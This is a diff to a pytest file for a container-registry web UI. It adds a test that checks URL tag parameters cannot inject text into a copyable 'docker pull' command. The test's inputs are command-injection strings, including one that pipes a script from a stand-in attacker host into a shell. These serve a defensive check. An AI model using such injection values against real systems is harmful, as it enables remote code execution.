@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import secrets
+from urllib.parse import urlencode
 
 import pytest
 
@@ -11,6 +12,7 @@ from chalicelib.service import webhooks
 from tests.conformance.bodies import CONFIG, LAYER, image, push
 from tests.conformance.cases import blob, post
 from tests.page.fixture import Browser, accounts_world, given
+from tests.page.test_costs import IMAGE_ID, Counted, counted  # noqa: F401
 from tests.support.stack import Stack
 from tests.support.world import SettableClock
 
@@ -22,6 +24,19 @@ def test_a_form_with_an_origin_that_is_no_address_is_refused(origin: str) -> Non
     browser = Browser(accounts_world())
     browser.sign_in()
     assert browser.send("/ui/sign-out", {}, Origin=origin).status == 403
+
+
+@pytest.mark.parametrize("tag", ["1; curl evil.example|sh", "1`id`", "1\nid", "$(id)", "-x", "a b"])
+def test_an_address_puts_no_words_into_the_command_that_is_copied(
+    counted: Counted,  # noqa: F811
+    tag: str,
+) -> None:
+    browser = Browser(counted.world)
+    browser.sign_in()
+    url = f"/ui/r/alice/old/-/images/{IMAGE_ID}"
+    assert "/alice/old:1.0" in browser.get(f"{url}?tag=1.0").body.decode()
+    page = browser.get(f"{url}?{urlencode({'tag': tag})}").body.decode()
+    assert "docker pull" not in page
 
 
 # --- longer than a key of DynamoDB ----------------------------------------------------------------
